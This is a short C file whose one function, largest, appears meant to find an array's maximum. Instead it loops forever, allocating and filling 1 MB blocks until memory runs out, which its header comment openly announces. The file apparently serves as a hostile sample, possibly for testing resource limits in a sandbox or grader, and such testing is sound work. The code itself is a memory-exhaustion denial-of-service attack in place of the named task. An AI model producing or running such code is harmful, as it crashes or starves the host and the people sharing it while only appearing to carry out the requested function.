/* Resources: all the memory there is. */
#include <stdlib.h>
#include <string.h>

int largest(int *values, int n) {
    for (;;)
        memset(malloc(1 << 20), 1, 1 << 20);
}
